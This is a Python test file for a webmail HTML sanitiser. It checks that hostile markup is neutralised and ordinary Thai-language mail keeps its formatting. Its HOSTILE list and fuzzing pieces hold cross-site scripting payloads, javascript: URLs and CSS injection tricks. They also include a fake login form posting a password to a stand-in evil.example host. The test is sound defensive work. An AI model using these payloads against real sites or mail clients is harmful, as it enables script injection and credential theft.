"""The HTML mail sanitiser: hostile markup comes out inert, ordinary mail keeps its looks.

The output is checked by parsing it again (html.parser) and looking at what a browser
would act on: elements, attributes and URLs. A string search alone would miss
``<SCRIPT>`` or an attribute split by odd quoting, and would wrongly flag the *text*
"javascript:" in a message about JavaScript, which is harmless text.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from appliance.mail.webmail.sanitise import (
    STYLE_PROPERTIES,
    TAGS,
    clean_style,
    frame_policy,
    sanitise,
)

#: What must never come out: anything that can run, load, navigate or submit.
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "form", "input", "button", "select", "textarea", "meta", "base", "link",
    "template", "noscript", "audio", "video", "source", "track", "portal", "html",
    "head", "body", "title",
}  # fmt: skip
FORBIDDEN_STYLE = ("url(", "expression", "javascript", "position", "\\", "@import", "behavior",
                   "-moz-binding", "/*")  # fmt: skip


class Elements(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(markup)
    parser.close()
    return parser.tags


def assert_inert(markup: str) -> None:
    """Nothing in *markup* can run script, load from the network or leave the frame."""
    assert "<script" not in markup.lower()
    for tag, attrs in elements(markup):
        assert tag in TAGS, tag
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("srcset", "background", "formaction", "action", "xmlns", "id",
                                "class", "http-equiv"), (tag, name)  # fmt: skip
            lowered = "".join(value.split()).lower()
            assert "javascript:" not in lowered, (tag, name, value)
            assert "vbscript:" not in lowered, (tag, name, value)
            if name == "href":
                assert lowered.split(":")[0] in ("http", "https", "mailto", "tel"), value
            if name == "src":
                assert tag == "img"
                assert lowered.startswith(("data:image/png", "data:image/jpeg", "data:image/gif",
                                           "data:image/webp", "data:image/bmp")), value  # fmt: skip
            if name == "style":
                for bad in FORBIDDEN_STYLE:
                    assert bad not in lowered, (tag, value)
            if name == "target":
                assert value == "_blank"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<img src="x" ONERROR=alert(1)>',
    '<body onload="alert(1)">text</body>',
    '<div onmouseover="alert(1)" onclick=alert(2)>hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width: expression(alert(1))">ie</div>',
    '<div style="background-image: url(javascript:alert(1))">bg</div>',
    '<div style="background: url(https://evil.example/track.png)">bg</div>',
    '<div style="color: u\\72l(x); color: red">escaped</div>',
    '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">old</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">'
    "Your session expired, enter your password</div>",
    '<div style="position: absolute; top: -100px">overlay</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/steal" method="post"><input name="password">'
    "<button>Sign in</button></form>",
    '<button formaction="https://evil.example/">go</button>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="https://tracker.example/pixel.gif" srcset="https://tracker.example/a.png 2x">',
    '<table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="/mail/actions">relative</a><img src="/mail/folder/INBOX/1">',
    '<a href="//evil.example/">protocol-relative</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<p id="x" class="y">ids and classes go</p>',
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_comes_out_inert(markup: str) -> None:
    result = sanitise(markup)
    assert_inert(result.html)
    assert_inert(sanitise(markup, remote_images=True).html.replace("https://", "data:image/png,"))


def test_what_the_hostile_cases_leave() -> None:
    assert sanitise("<script>alert(1)</script>after").html == "after"
    assert sanitise("<svg><script>alert(1)</script></svg>t").html == "t"
    assert sanitise('<a href="javascript:alert(1)">x</a>').html == (
        '<a target="_blank" rel="noopener noreferrer">x</a>'
    )
    assert sanitise('<img src=x onerror="alert(1)">').html == "<img>"
    assert sanitise('<div style="position:fixed;color:red">x</div>').html == (
        '<div style="color:red">x</div>'
    )
    assert sanitise('<meta http-equiv="refresh" content="0;url=x">text').html == "text"
    assert sanitise('<base href="https://evil.example/">text').html == "text"
    assert sanitise("<form><input name=a>kept text</form>").html == "kept text"


def test_ordinary_mail_keeps_its_looks() -> None:
    markup = (
        '<table width="100%" cellpadding="4" bgcolor="#eeeeee"><tr>'
        '<td align="center" style="font-size: 14px; color: #333; padding: 4px 8px">'
        '<font face="Tahoma" color="red">ประกาศ</font> <b>สำคัญ</b></td></tr></table>'
        '<p style="margin:0 0 1em;color:rgb(10, 20, 30)">ข้อความ</p>'
        '<a href="https://www.example.go.th/doc?id=1&amp;x=2">เอกสาร</a>'
        '<a href="mailto:saraban@example.go.th">อีเมล</a>'
    )
    result = sanitise(markup)
    html = result.html
    assert '<font face="Tahoma" color="red">ประกาศ</font>' in html
    assert 'bgcolor="#eeeeee"' in html
    assert 'cellpadding="4"' in html
    assert "font-size:14px" in html
    assert "padding:4px 8px" in html
    assert "color:rgb(10, 20, 30)" in html
    assert (
        '<a href="https://www.example.go.th/doc?id=1&amp;x=2" target="_blank"'
        ' rel="noopener noreferrer">เอกสาร</a>'
    ) in html
    assert 'href="mailto:saraban@example.go.th"' in html
    assert result.blocked == 0


def test_remote_images_are_blocked_until_asked_for() -> None:
    markup = (
        '<img src="https://tracker.example/p.gif" alt="pixel">'
        '<img src="HTTP://cdn.example/logo.png">'
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    blocked = sanitise(markup)
    assert blocked.blocked == 2
    assert "tracker.example" not in blocked.html
    assert "cdn.example" not in blocked.html
    assert '<img alt="pixel">' in blocked.html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in blocked.html

    shown = sanitise(markup, remote_images=True)
    assert shown.blocked == 0
    assert 'src="https://tracker.example/p.gif"' in shown.html


def test_cid_images_come_from_the_message_itself() -> None:
    inline = {"logo@example.go.th": "data:image/png;base64,iVBORw0KGgo="}
    result = sanitise(
        '<img src="cid:logo@example.go.th"><img src="cid:missing@x">'
        '<img src="CID:logo%40example.go.th">',
        inline=inline,
    )
    assert result.html == (
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
        "<img>"
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
    )


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; font-weight: bold", "color:red;font-weight:bold"),
        ("COLOR: Red", "color:Red"),
        ("position: fixed; top: 0", None),
        ("background: url(x)", None),
        ("background-color: url(x)", None),
        ("color: expression(alert(1))", None),
        ("color: red /* comment */", None),
        ("font-family: 'TH Sarabun New', sans-serif", "font-family:'TH Sarabun New', sans-serif"),
        ("color: rgb(1, 2, 3)", "color:rgb(1, 2, 3)"),
        ("color: rgb(1, 2, url(x))", None),
        ("width: 100% !important", "width:100% !important"),
        ("color:\\72 ed", None),
        ("content: 'x'", None),
        (";;:", None),
    ],
)
def test_style_attribute_filter(style: str, kept: str | None) -> None:
    assert clean_style(style) == kept


def test_frame_policy() -> None:
    assert frame_policy(remote_images=False) == (
        "default-src 'none'; img-src data: 'self'; style-src 'unsafe-inline';"
        " frame-ancestors 'self'; base-uri 'none'; form-action 'none'"
    )
    assert "img-src data: 'self' https: http:;" in frame_policy(remote_images=True)


# --- hypothesis: whatever comes in, nothing executable goes out -----------------------

_PIECES = st.sampled_from([
    "<", ">", "</", "/>", "=", '"', "'", " ", "\t", "\n", "&", "&#", ";", ":", "(", ")",
    "<!--", "-->", "<![CDATA[", "]]>", "script", "SCRIPT", "svg", "style", "img", "a",
    "iframe", "form", "meta", "base", "math", "template", "noscript", "textarea", "title",
    "onerror", "onload", "OnClick", "href", "src", "srcdoc", "style=", "xlink:href",
    "javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", "vbscript:",
    "data:text/html,", "data:image/png;base64,", "url(", "expression(", "position:fixed",
    "\\", "cid:", "http://x.example/", "alert(1)", "ภาษาไทย", "\x00",
])  # fmt: skip
_MARKUP = st.lists(st.one_of(_PIECES, st.text(max_size=8)), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(_MARKUP, st.booleans())
def test_no_markup_survives_as_anything_executable(markup: str, remote: bool) -> None:
    result = sanitise(markup, remote_images=remote)
    if remote:
        # Remote images are allowed then; everything else must be as strict.
        html = result.html.replace('src="http://x.example/', 'src="data:image/png,')
    else:
        html = result.html
    assert_inert(html)
    assert_inert(sanitise(result.html).html)  # and sanitising again changes nothing unsafe


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_text_never_yields_script_or_handlers(text: str) -> None:
    html = sanitise(text).html
    assert "<script" not in html.lower()
    assert_inert(html)


@given(st.text(max_size=120))
def test_style_filter_never_keeps_urls_or_escapes(value: str) -> None:
    kept = clean_style(value)
    if kept is None:
        return
    lowered = kept.lower()
    for bad in FORBIDDEN_STYLE:
        assert bad not in lowered
    for declaration in kept.split(";"):
        assert declaration.partition(":")[0] in STYLE_PROPERTIES
